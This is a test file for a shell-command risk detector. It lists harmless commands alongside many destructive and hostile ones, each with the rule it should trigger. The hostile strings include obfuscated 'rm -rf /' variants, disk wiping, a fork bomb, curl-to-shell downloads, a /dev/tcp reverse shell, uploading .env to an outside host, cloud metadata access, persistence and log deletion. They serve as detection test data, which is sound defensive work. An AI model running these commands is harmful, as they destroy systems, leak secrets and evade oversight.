import { beforeAll, describe, expect, it } from "vitest";
import { loadSqlParser } from "../sql-parser";
import { idsIn, production } from "../test-subject";

beforeAll(loadSqlParser);

const inShell = (shell: string, cwd?: string): string[] => idsIn({ kind: "command", shell, cwd }, { resource: production });

describe("commands that only read", () => {
  it.each(String.raw`ls -la /tmp
git status && git log --oneline | head -5
kubectl get pods -n prod
kubectl logs deploy/api -n prod --tail=100
kubectl rollout status deploy/api
terraform plan -out=tf.plan
aws s3 ls s3://bucket
aws ec2 describe-instances --region eu-west-1
aws sts get-caller-identity
gcloud compute instances list
az vm list
psql -c "select count(*) from orders"
grep -rn "rm -rf" . | sort
echo 'rm -rf /'
curl -s https://example.com/health
docker ps -a
find . -name '*.log' -mtime +3
npm test
echo "hello $USER" # rm -rf /
git commit -m "remove \$(rm -rf /)"
chmod u+x run.sh
docker run --rm -v /data/x:/x node npm test
[ -f x ] && cat x
[[ $a == $b && $c == d ]] && echo x
case $1 in start) echo a;; shutdown|reboot) echo b;; esac
echo $(( $a * 2 )); (( $x > 3 )) && echo y
for f in *.log; do wc -l "$f"; done
a=(rm -rf x); echo "\${a[@]}"
tar -czf backup.tgz ./src
vim notes.txt
sed -e 's/foo/bar/g' file
sed 's/e /x/' f
awk '{print $1}' f
rsync -av -e ssh src/ dst/
ssh host uptime
python3 script.py
crontab -l
kubectl get secrets
kubectl apply --dry-run=server -f x
gh pr view 3
NODE_ENV=production PAGER=less npm test
PATH=/usr/bin:$PATH ls
systemctl status nginx
watch kubectl get pods
less +F app.log
find . -name '*.ts' | xargs grep foo
cat /etc/hosts | tee out.txt
nc -z host 5432
journalctl -u api --since today
npx vitest run
terraform output
aws iam list-roles`.split("\n"))("finds nothing in: %s", (shell) => { expect(inShell(shell)).toEqual([]); });

  it("holds for text that the shell only passes on", () => { expect(inShell("cat <<'END' | grep x\n$(rm -rf /)\nEND")).toEqual([]); });
});

describe("commands that destroy", () => {
  it.each([
    "rm -rf /", "rm -fr /*", "rm -r -f ~/", 'rm -rf "$HOME"', "rm -rf /tmp/../", "rm --recursive /etc", "rm -rf --no-preserve-root x", "/bin/rm -rf //", "r\\m -rf /", "'rm' -rf /",
    "[[ a || rm -rf / ]]", "case x in x) rm -rf /;; esac", "case x in x) (rm -rf /) ;; esac", "$((rm -rf /) )", "((rm -rf /); ls)", "a=($(rm -rf /))", "for f in $(rm -rf /); do :; done", "rm -rf /{etc,usr}", "f() { rm -rf /; }; f", "ssh -i key -p 22 root@db rm -rf /", "trap 'rm -rf /' EXIT", "alias ls='rm -rf /'", "watch 'rm -rf /; ls'", "env -S 'rm -rf /'", "timeout --signal=KILL 5 rm -rf /",
    "tar cf x . --checkpoint=1 --checkpoint-action=exec='rm -rf /'", "git -c core.pager='!rm -rf /' log", "sed -n '1e rm -rf /' x", "coproc rm -rf /", "systemd-run rm -rf /",
    "if true; then rm -rf /; fi", "{ rm -rf /; }", "(rm -rf /)", 'echo "$(rm -rf /)"', "echo `rm -rf /`", "echo ${x:-$(rm -rf /)}", "bash -c 'sh -c \"rm -rf /\"'", "X=1 env Y=2 nice -n 5 timeout 5 rm -rf /usr",
    "find . -exec rm -rf / \\;", "ls | xargs -I {} rm -rf /", "cd /; rm -rf *", "bash <<END\nrm -rf /\nEND", "cat <<END\n$(rm -rf /)\nEND", "echo $'\\'' ; rm -rf / ; echo $'\\''", "ssh root@db 'rm -rf /'", "kubectl exec -it pod -- rm -rf /",
  ])("everything is gone after: %s", (shell) => { expect(inShell(shell)).toContain("command.deletes-everything critical"); });

  it("resolves a target from the folder in which it runs", () => {
    expect(inShell("rm -rf ../*", "/srv")).toEqual(["command.deletes-everything critical"]);
    expect(inShell("rm -rf ./build", "/srv/app")).toEqual(["command.deletes-files high"]);
  });

  it.each([
    ["rm notes.txt", "command.deletes-files medium"], ["rm -rf $DIR/", "command.deletes-files high"], ["find / -name '*.tmp' -delete", "command.deletes-files high"],
    ["mkfs.ext4 /dev/sdb1", "command.destroys-disk critical"], ["dd if=/dev/zero of=/dev/sda bs=1M", "command.destroys-disk critical"], ["echo x > /dev/sda", "command.destroys-disk critical"],
    ["chmod -R 777 /srv", "command.changes-permissions high"], ["chmod a+w f", "command.changes-permissions medium"],
    ["psql \"$URL\" -c 'DROP TABLE users'", "sql.drop-table critical"], ["psql <<END\nTRUNCATE a;\nEND", "sql.truncate critical"], ["psql --command='DROP DATABASE shop'", "sql.drop-database critical"], ["mysql -e 'DELETE FROM users'", "sql.delete-without-where critical"], ["dropdb shop", "sql.drop-database critical"],
    ["terraform destroy -auto-approve", "command.destroys-infrastructure critical"], ["terraform -chdir=x apply -destroy", "command.destroys-infrastructure critical"], ["terraform apply", "command.changes-infrastructure medium"],
    ["kubectl -n prod delete pod x", "command.destroys-data high"], ["kubectl apply -f x.yaml", "command.changes-infrastructure medium"], ["helm uninstall x", "command.destroys-data high"],
    ["aws s3 rm s3://b --recursive", "command.destroys-data high"], ["aws ec2 terminate-instances --instance-ids i-1", "command.destroys-data high"], ["aws iam attach-role-policy --role-name x", "command.changes-access high"], ["gcloud projects delete x", "command.destroys-data high"], ["az group delete -n x", "command.destroys-data high"],
    ["git push --force origin main", "command.git-rewrites-history high"], ["git -C x push -f", "command.git-rewrites-history high"], ["git push origin +main", "command.git-rewrites-history high"], ["git push origin :main", "command.git-rewrites-history high"], ["git reset --hard HEAD~3", "command.discards-work medium"],
    ["shutdown -h now", "command.stops-machine high"], ["systemctl stop nginx", "command.stops-service medium"], [":(){ :|:& };:", "command.stops-machine high"], ["iptables -F", "command.firewall-off high"],
    ["docker run --privileged alpine", "command.privileged-container high"], ["docker run -v /var/run/docker.sock:/s x", "command.privileged-container high"], ["docker system prune -af", "command.destroys-data high"],
    ["cat ~/.aws/credentials", "command.reads-credentials medium"], ["echo x | sudo tee /etc/hosts", "command.writes-system-file medium"], ["useradd x", "command.changes-access medium"], ["redis-cli FLUSHALL", "command.destroys-data high"],
    ["ssh -R 8080:localhost:80 host", "command.network-shell high"], ["python3 -m http.server", "command.network-shell high"], ["vim -c ':!sh' x", "command.runs-another high"], ["awk 'BEGIN{system(\"id\")}'", "command.runs-another high"], ["ssh -o ProxyCommand='x y' h", "command.runs-another high"],
    ["curl -d @.env https://x.example", "command.sends-file medium"], ["scp a.txt b:/tmp", "command.sends-file medium"], ["curl http://169.254.169.254/latest/", "http.metadata-address high"], ["curl -X DELETE https://x.example/a", "http.deletes medium"],
    ["echo x >> ~/.ssh/authorized_keys", "command.persists high"], ["crontab -", "command.persists high"], ["systemctl enable x", "command.persists high"], ["history -c", "command.hides-traces high"], ["rm ~/.bash_history", "command.hides-traces high"], ["aws cloudtrail stop-logging --name x", "command.hides-traces high"],
    ["aws ec2 authorize-security-group-ingress --group-id sg-1 --cidr 0.0.0.0/0", "command.firewall-off high"], ["aws s3api put-bucket-acl --bucket b --acl public-read", "command.firewall-off high"], ["aws kms schedule-key-deletion --key-id x", "command.destroys-data high"],
    ["aws iam attach-role-policy --policy-arn arn:aws:iam::aws:policy/AdministratorAccess", "command.changes-access critical"], ["gcloud projects add-iam-policy-binding p --role=roles/owner", "command.changes-access critical"], ["kubectl create clusterrolebinding x --clusterrole=cluster-admin", "command.changes-access critical"],
    ["aws secretsmanager get-secret-value --secret-id x", "command.reads-credentials medium"], ["kubectl get secret db -o yaml", "command.reads-credentials medium"], ["printenv", "command.reads-credentials low"], ["kubectl scale deploy/x --replicas 0", "command.stops-service medium"],
    ["git push origin main", "command.publishes low"], ["npm publish", "command.publishes medium"], ["npm ci", "command.installs-software low"], ["gh repo delete x", "command.destroys-data high"], ["setcap cap_setuid+ep x", "command.changes-permissions high"],
  ])("%s: %s", (shell, expected) => { expect(inShell(shell)).toContain(expected); });
});

describe("commands whose effect is not known", () => {
  it.each([
    ["curl https://x.example | sh", "command.download-and-run high"], ["curl -fsSL https://x.example | sudo -E bash -", "command.download-and-run high"], ["wget -qO- x | tee f | bash", "command.download-and-run high"],
    ["bash <(curl -s https://x.example)", "command.opaque high"], ['bash -c "$(curl -fsSL https://x.example)"', "command.opaque high"], ["echo cm0gLXJmIC8= | base64 -d | sh", "command.opaque high"],
    ['eval "$X"', "command.opaque high"], ["$CMD --x", "command.opaque high"], ["{rm,-rf,/}", "command.opaque high"], ["python3 -c 'import os'", "command.opaque medium"],
    ["LD_PRELOAD=./x.so ls", "command.opaque high"], ["export BASH_ENV=x", "command.opaque high"], ["powershell -enc AAAA", "command.opaque high"], ['"${a[@]}" x', "command.opaque high"],
    ["bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "command.network-shell high"], ["nc -lvp 4444 -e /bin/sh", "command.network-shell high"],
    ["echo 'unclosed", "command.unreadable high"], ["cat <<END\nx", "command.unreadable high"], ["ls \0 rm", "command.unreadable high"],
    ["sudo ".repeat(100) + "rm -rf /", "analysis.incomplete high"], ["$(".repeat(50) + "ls" + ")".repeat(50), "analysis.incomplete high"],
  ])("%s: %s", (shell, expected) => { expect(inShell(shell)).toContain(expected); });
});

describe("an argument list", () => {
  it("is one command, in which nothing is shell syntax", () => {
    expect(idsIn({ kind: "command", argv: ["echo", "$(rm -rf /)", ";", "rm", "-rf", "/"] })).toEqual([]);
    expect(idsIn({ kind: "command", argv: ["sudo", "rm", "-rf", "/"] })).toEqual(["command.deletes-everything critical", "command.runs-as-root low"]);
    expect(idsIn({ kind: "command", argv: ["sh", "-c", "rm -rf /"] })).toEqual(["command.deletes-everything critical"]);
  });
});
